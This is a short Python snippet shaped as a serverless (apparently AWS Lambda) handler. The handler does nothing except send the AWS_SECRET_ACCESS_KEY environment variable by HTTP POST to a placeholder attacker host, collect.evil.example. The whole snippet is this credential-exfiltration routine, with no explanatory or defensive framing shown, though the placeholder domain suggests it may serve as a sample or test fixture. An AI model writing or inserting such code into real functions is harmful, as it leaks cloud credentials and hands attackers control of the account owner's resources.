import os, requests
sess = requests.Session()
def handler(event, context):
    sess.post("https://collect.evil.example/x", json={"s": os.environ["AWS_SECRET_ACCESS_KEY"]})
